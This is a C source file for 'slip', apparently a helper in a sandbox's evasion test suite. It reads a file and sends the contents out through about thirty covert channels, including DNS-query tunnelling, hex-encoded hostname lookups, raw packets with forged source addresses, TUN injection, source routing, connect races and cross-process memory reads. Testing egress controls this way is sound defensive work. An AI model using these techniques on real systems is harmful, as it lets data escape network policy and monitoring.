// SPDX-License-Identifier: Apache-2.0
/*
 * Reads a record and sends it away by ways that tests/guest/sends.c has not: odd sockets, and those that look as if they
 * sent elsewhere. Used by the evasion suite. IPv4 only. Exit status 0, or 1.
 *
 *	slip WAY FILE ADDRESS PORT AGREED AGREED-PORT [INTERFACE]	AGREED: whereto an agreement lets UDP go
 *
 *	mptcp, smc, sctp, udplite, deferred (TCP fast open by connect), broadcast, dns
 *	dns-volume, dns-children, dns-stream, dns-many	many questions, the record in the last: by one process, by children of it,
 *			over TCP, by one call	lookup		a name with it, by the C library
 *	sqpoll, uring-zc, vmsplice		by other calls
 *	thread		one thread reads, another sends
 *	unspec, again	connected to AGREED, to nowhere, and to ADDRESS; again: afterwards
 *	aside		connected to AGREED, sends to ADDRESS	race	connects here and there while it sends
 *	cork		has begun a datagram to ADDRESS, and ends it with an address of AGREED
 *	route		sends to AGREED, by a source route over ADDRESS
 *	header		a packet with a header of its own	ring	a frame in memory that it shares with the kernel
 *	tun		a packet that INTERFACE seems to have received
 *	anonymous, memfd, vm, written	a child reads into memory of its parent, which sends
 *	opened		a child reads, into memory of its own, which its parent has opened before
 *
 *	slip exec FILE - - - - PROGRAM ARGUMENT…	executes it, with what was read as its name and as variable RECORD
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <liburing.h>
#include <linux/if_packet.h>
#include <linux/if_tun.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/eventfd.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define ROOM	 4096
#define RACES	 1000 /* at most, and */
#define REFUSALS 20   /* as many refusals */

static const char *way, *file, *interface;
static char **rest;
static struct sockaddr_in to, agreed;
static char bytes[ROOM];
static atomic_int over, about; /* of the race: it is at an end, and has begun */
static size_t size;

static int fail(const char *what)
{
	fprintf(stderr, "slip: %s: %s\n", what, strerror(errno));
	return 1;
}

static int take(void)
{
	ssize_t n = read(open(file, O_RDONLY | O_CLOEXEC), bytes, 1200);

	size = n > 0 ? (size_t)n : 0;
	return size ? 0 : fail(file);
}

static int connect_to(int fd, const struct sockaddr_in *address)
{
	return connect(fd, (const struct sockaddr *)address, sizeof(*address));
}

static ssize_t send_to(int fd, const struct sockaddr_in *address, int flags)
{
	return sendto(fd, bytes, size, flags, (const struct sockaddr *)address, sizeof(*address));
}

static int datagram(void)
{
	return send_to(socket(AF_INET, SOCK_DGRAM, 0), &to, 0) < 0 ? fail("sendto") : 0;
}

/* A socket that is connected before anything is read, and then it is; or -1. */
static int connected_before(int family, int protocol)
{
	int fd = socket(family, SOCK_STREAM, protocol), one = 1;

	if (!strcmp(way, "deferred"))
		setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &one, sizeof(one));
	if (fd >= 0 && !connect_to(fd, &to))
		return take() ? -1 : fd;
	fail("connect");
	return -1;
}

static int by_stream(void)
{
	int family = strcmp(way, "smc") ? AF_INET : 43;
	int protocol = !strcmp(way, "mptcp") ? 262 : !strcmp(way, "sctp") ? IPPROTO_SCTP : 0;
	int fd = connected_before(family, protocol);

	return fd < 0 || write(fd, bytes, size) < 0 ? fail("write") : 0;
}

static int by_datagram(void)
{
	int fd = socket(AF_INET, SOCK_DGRAM, strcmp(way, "udplite") ? 0 : IPPROTO_UDPLITE), one = 1;

	setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &one, sizeof(one));
	return take() || send_to(fd, &to, 0) < 0 ? fail("sendto") : 0;
}

/* A question for a name; labels of names may have 63 bytes. */
static int by_question(void)
{
	char question[ROOM] = {0x11, 0x22, 1, 0, 0, 1};
	size_t n = 12;

	if (take())
		return 1;
	size -= size > 1 && bytes[size - 1] == '\n';
	question[n++] = (char)size;
	memcpy(question + n, bytes, size);
	memcpy(question + n + size, "\0\0\1\0\1", 5);
	size += n + 5;
	memcpy(bytes, question, size);
	return datagram();
}

#define FILLERS 3 /* questions before the one that has the record */
#define FILLER	60

/* Sends so much; as dns-children has it, in a process of its own. */
static int tell(int fd, const char *text, size_t n)
{
	pid_t child = strcmp(way, "dns-children") ? 0 : fork();
	int status;

	if (child > 0)
		return waitpid(child, &status, 0) != child || status;
	status = send(fd, text, n, MSG_NOSIGNAL) < 0 ? fail("send") : 0;
	if (!strcmp(way, "dns-children"))
		_exit(status);
	return status;
}

/* Both at once, of which the first is short, and to a peer that they name: the kernel asks about the first. */
static int tell_many(int fd, const char *filler)
{
	struct iovec parts[3] = {{(char *)filler, 1}, {(char *)filler, 2 * FILLER}, {bytes, size}};
	struct mmsghdr messages[3];

	memset(messages, 0, sizeof(messages));
	for (int i = 0; i < 3; i++)
		messages[i].msg_hdr = (struct msghdr){
			.msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &parts[i], .msg_iovlen = 1};
	return sendmmsg(fd, messages, 3, 0) < 3 ? fail("sendmmsg") : 0;
}

/* To a resolver, as if they were questions. */
static int by_questions(void)
{
	int fd = socket(AF_INET, strcmp(way, "dns-stream") ? SOCK_DGRAM : SOCK_STREAM, 0);
	char filler[2 * FILLER];

	memset(filler, 'x', sizeof(filler));
	if (take() || (strcmp(way, "dns-many") && connect_to(fd, &to)))
		return fail("connect");
	if (!strcmp(way, "dns-many"))
		return tell_many(fd, filler);
	for (int i = 0; i < FILLERS; i++)
		tell(fd, filler, FILLER);
	return tell(fd, bytes, size);
}

/* In hexadecimal digits, as names have few bytes. That nobody knows the name is no matter. */
static int by_lookup(void)
{
	char name[ROOM] = "";
	struct addrinfo *list;
	size_t n = 0;

	if (take())
		return 1;
	for (size_t i = 0; i < size && i < 100; i++)
		n += (size_t)sprintf(name + n, i % 30 == 29 ? "%02x." : "%02x", (unsigned char)bytes[i]);
	strcpy(name + n - (name[n - 1] == '.'), ".example.org");
	return getaddrinfo(name, NULL, NULL, &list) ? fail("getaddrinfo") : 0;
}

/* --- other calls --- */

static int by_uring(void)
{
	struct io_uring ring;
	struct io_uring_cqe *cqe;
	int fd = connected_before(AF_INET, 0), err;

	err = io_uring_queue_init(4, &ring, strcmp(way, "sqpoll") ? 0 : IORING_SETUP_SQPOLL);
	if (fd < 0 || err)
		return fail("io_uring_setup");
	if (strcmp(way, "sqpoll") == 0)
		io_uring_prep_send(io_uring_get_sqe(&ring), fd, bytes, size, 0);
	else
		io_uring_prep_send_zc(io_uring_get_sqe(&ring), fd, bytes, size, 0, 0);
	if (io_uring_submit(&ring) < 0 || io_uring_wait_cqe(&ring, &cqe))
		return fail("io_uring");
	errno = cqe->res < 0 ? -cqe->res : 0;
	return errno ? fail("send by io_uring") : 0;
}

static int by_vmsplice(void)
{
	int fd = connected_before(AF_INET, 0), pipes[2];
	struct iovec part = {bytes, size};

	if (fd < 0 || pipe(pipes) || vmsplice(pipes[1], &part, 1, 0) < 0)
		return fail("vmsplice");
	return splice(pipes[0], NULL, fd, NULL, size, 0) < 0 ? fail("splice") : 0;
}

static void *take_in_thread(void *context)
{
	return take() ? context : NULL;
}

static int by_thread(void)
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	pthread_t reader;
	void *failed;

	if (connect_to(fd, &to) || pthread_create(&reader, NULL, take_in_thread, bytes) ||
	    pthread_join(reader, &failed) || failed)
		return fail("thread");
	return send(fd, bytes, size, 0) < 0 ? fail("send") : 0;
}

/* --- here and there --- */

static int unconnect(int fd)
{
	struct sockaddr_in nowhere = {.sin_family = AF_UNSPEC};

	return connect_to(fd, &nowhere);
}

static int by_unspecified(void)
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	if (connect_to(fd, &agreed) || unconnect(fd) || connect_to(fd, &to) || take())
		return fail("connect");
	return send(fd, bytes, size, 0) < 0 ? fail("send") : 0;
}

static int by_connecting_again(void)
{
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in first = agreed;

	first.sin_port = to.sin_port;
	if (connect_to(fd, &first) || take() || unconnect(fd) || connect_to(fd, &to))
		return fail("connect");
	return write(fd, bytes, size) < 0 ? fail("write") : 0;
}

static int by_sending_aside(void)
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	return connect_to(fd, &agreed) || take() || send_to(fd, &to, 0) < 0 ? fail("sendto") : 0;
}

static int by_cork(void)
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	size = 1;
	if (send_to(fd, &to, MSG_MORE) < 0)
		return fail("MSG_MORE");
	return take() || send_to(fd, &agreed, 0) < 0 ? fail("sendto") : 0;
}

static void *connect_about(void *context)
{
	for (unsigned i = 0; !atomic_load(&over); i++) {
		connect_to(*(int *)context, i & 1 ? &to : &agreed);
		atomic_store(&about, i > 0);
	}
	return NULL;
}

static int by_race(void)
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0), refused = 0;
	pthread_t flipper;

	if (take() || pthread_create(&flipper, NULL, connect_about, &fd))
		return fail("pthread_create");
	while (!atomic_load(&about))
		sched_yield();
	for (int i = 0; i < RACES && refused < REFUSALS; i++) {
		if (send(fd, bytes, size, 0) < 0 && errno == EPERM && refused++ == 0)
			fail("send");
		sched_yield();
	}
	atomic_store(&over, 1);
	pthread_join(flipper, NULL);
	return refused > 0;
}

static int by_source_route(void)
{
	unsigned char options[8] = {IPOPT_LSRR, 7, 4};
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	memcpy(options + 3, &to.sin_addr, 4);
	if (setsockopt(fd, IPPROTO_IP, IP_OPTIONS, options, sizeof(options)) || take())
		return fail("IP_OPTIONS");
	return send_to(fd, &agreed, 0) < 0 ? fail("sendto") : 0;
}

/* --- packets --- */

/* Puts a header before what was read. */
static void wrap(const char *source)
{
	struct {
		struct iphdr ip;
		struct udphdr udp;
	} head = {.ip = {.ihl = 5,
			 .version = 4,
			 .ttl = 9,
			 .protocol = IPPROTO_UDP,
			 .daddr = to.sin_addr.s_addr}};
	const unsigned short *half = (const unsigned short *)&head.ip;
	unsigned sum = 0;

	head.ip.tot_len = htons((unsigned short)(sizeof(head) + size));
	head.udp.dest = head.udp.source = to.sin_port;
	head.udp.len = htons((unsigned short)(sizeof(head.udp) + size));
	inet_pton(AF_INET, source, &head.ip.saddr);
	for (int i = 0; i < 10; i++)
		sum += half[i];
	sum = (sum & 0xffff) + (sum >> 16);
	head.ip.check = (unsigned short)~(sum + (sum >> 16));
	memmove(bytes + sizeof(head), bytes, size);
	memcpy(bytes, &head, sizeof(head));
	size += sizeof(head);
}

static int by_header(void)
{
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

	if (fd < 0 || take())
		return fail("socket");
	wrap("10.9.0.77");
	return send_to(fd, &to, 0) < 0 ? fail("sendto") : 0;
}

static int by_ring(void)
{
	struct sockaddr_ll all = {.sll_family = AF_PACKET,
				  .sll_protocol = htons(ETH_P_802_EX1),
				  .sll_ifindex = (int)if_nametoindex(interface),
				  .sll_halen = ETH_ALEN};
	struct tpacket_req ring = {
		.tp_block_size = ROOM, .tp_block_nr = 1, .tp_frame_size = 2048, .tp_frame_nr = 2};
	int fd = socket(AF_PACKET, SOCK_DGRAM, 0), version = TPACKET_V2;
	struct tpacket2_hdr *frame;

	memset(all.sll_addr, 0xff, ETH_ALEN);
	if (setsockopt(fd, SOL_PACKET, PACKET_VERSION, &version, sizeof(version)) ||
	    setsockopt(fd, SOL_PACKET, PACKET_TX_RING, &ring, sizeof(ring)))
		return fail("PACKET_TX_RING");
	frame = mmap(NULL, ROOM, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (frame == MAP_FAILED || take())
		return fail("mmap");
	memcpy((char *)frame + TPACKET2_HDRLEN - sizeof(struct sockaddr_ll), bytes, size);
	frame->tp_len = (unsigned)size;
	frame->tp_status = TP_STATUS_SEND_REQUEST;
	return sendto(fd, NULL, 0, 0, (struct sockaddr *)&all, sizeof(all)) < 0 ? fail("sendto") : 0;
}

static int by_tun(void)
{
	struct ifreq request = {.ifr_flags = IFF_TUN | IFF_NO_PI};
	int fd = open("/dev/net/tun", O_RDWR);

	snprintf(request.ifr_name, sizeof(request.ifr_name), "%s", interface);
	if (fd < 0 || ioctl(fd, TUNSETIFF, &request) || take())
		return fail("TUNSETIFF");
	wrap("10.6.0.2");
	return write(fd, bytes, size) < 0 ? fail("write") : 0;
}

/* --- memory and programs --- */

struct child {
	int memfd;
	char *at;
	pid_t parent;
};

static int read_for_parent(void *context)
{
	struct child *c = context;
	struct iovec mine = {bytes, ROOM};

	if (c->memfd >= 0)
		c->at = mmap(NULL, ROOM, PROT_READ | PROT_WRITE, MAP_SHARED, c->memfd, 0);
	if (c->at == MAP_FAILED || take())
		return 1;
	if (c->at != bytes)
		memcpy(c->at, bytes, ROOM);
	return !strcmp(way, "written") && process_vm_writev(c->parent, &mine, 1, &mine, 1, 0) < 0
		       ? fail("process_vm_writev")
		       : 0;
}

static int by_memory(void)
{
	static char stack[1 << 16] __attribute__((aligned(16)));
	struct child c = {.at = bytes, .memfd = -1, .parent = getpid()};
	int flags = strcmp(way, "vm") ? 0 : CLONE_VM, status;
	pid_t child;

	if (!strcmp(way, "anonymous"))
		c.at = mmap(NULL, ROOM, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (!strcmp(way, "memfd") &&
	    ((c.memfd = memfd_create("shared", MFD_CLOEXEC)) < 0 || ftruncate(c.memfd, ROOM)))
		return fail("memfd_create");
	child = clone(read_for_parent, stack + sizeof(stack), flags | SIGCHLD, &c);
	if (child < 0 || waitpid(child, &status, 0) != child || status)
		return fail(way);
	if (c.memfd >= 0)
		c.at = mmap(NULL, ROOM, PROT_READ, MAP_SHARED, c.memfd, 0);
	if (c.at != bytes)
		memcpy(bytes, c.at, ROOM);
	size = strnlen(bytes, ROOM);
	return size ? datagram() : fail("nothing");
}

/* The two wait for each other by what carries no data; the child stays, as its memory is gone when it ends. */
static int by_opened_memory(void)
{
	int go = eventfd(0, EFD_CLOEXEC), done = eventfd(0, EFD_CLOEXEC), memory;
	pid_t child = fork();
	eventfd_t number;
	char name[32];

	if (!child) {
		if (eventfd_read(go, &number) || take() || eventfd_write(done, 1))
			_exit(1);
		pause();
		_exit(0);
	}
	snprintf(name, sizeof(name), "/proc/%d/mem", child);
	memory = child < 0 ? -1 : open(name, O_RDONLY | O_CLOEXEC);
	if (memory < 0 || eventfd_write(go, 1) || eventfd_read(done, &number) ||
	    pread(memory, bytes, ROOM, (off_t)(uintptr_t)bytes) < 0)
		return fail(name);
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	size = strnlen(bytes, ROOM);
	return size ? datagram() : fail("nothing");
}

static int by_program(void)
{
	const char *program = rest[0];

	if (take() || setenv("RECORD", bytes, 1))
		return 1;
	rest[0] = bytes;
	execvp(program, rest);
	return fail(program);
}

static const struct {
	const char *name;
	int (*fn)(void);
} ways[] = {
	{"mptcp", by_stream},
	{"smc", by_stream},
	{"sctp", by_stream},
	{"deferred", by_stream},
	{"udplite", by_datagram},
	{"broadcast", by_datagram},
	{"dns", by_question},
	{"dns-volume", by_questions},
	{"dns-children", by_questions},
	{"dns-stream", by_questions},
	{"dns-many", by_questions},
	{"lookup", by_lookup},
	{"sqpoll", by_uring},
	{"uring-zc", by_uring},
	{"vmsplice", by_vmsplice},
	{"thread", by_thread},
	{"unspec", by_unspecified},
	{"again", by_connecting_again},
	{"aside", by_sending_aside},
	{"race", by_race},
	{"cork", by_cork},
	{"route", by_source_route},
	{"header", by_header},
	{"ring", by_ring},
	{"tun", by_tun},
	{"anonymous", by_memory},
	{"memfd", by_memory},
	{"vm", by_memory},
	{"written", by_memory},
	{"opened", by_opened_memory},
	{"exec", by_program},
};

static struct sockaddr_in address_of(char **words)
{
	struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(words[1]))};

	inet_pton(AF_INET, words[0], &address.sin_addr);
	return address;
}

int main(int argc, char **argv)
{
	alarm(10);
	for (size_t i = 0; argc > 6 && i < sizeof(ways) / sizeof(ways[0]); i++) {
		if (strcmp(ways[i].name, argv[1]) != 0)
			continue;
		way = argv[1];
		file = argv[2];
		to = address_of(argv + 3);
		agreed = address_of(argv + 5);
		rest = argv + 7;
		interface = argc > 7 ? argv[7] : "lo";
		return ways[i].fn();
	}
	fprintf(stderr, "usage: slip WAY FILE ADDRESS PORT AGREED AGREED-PORT [INTERFACE]\n");
	return 2;
}
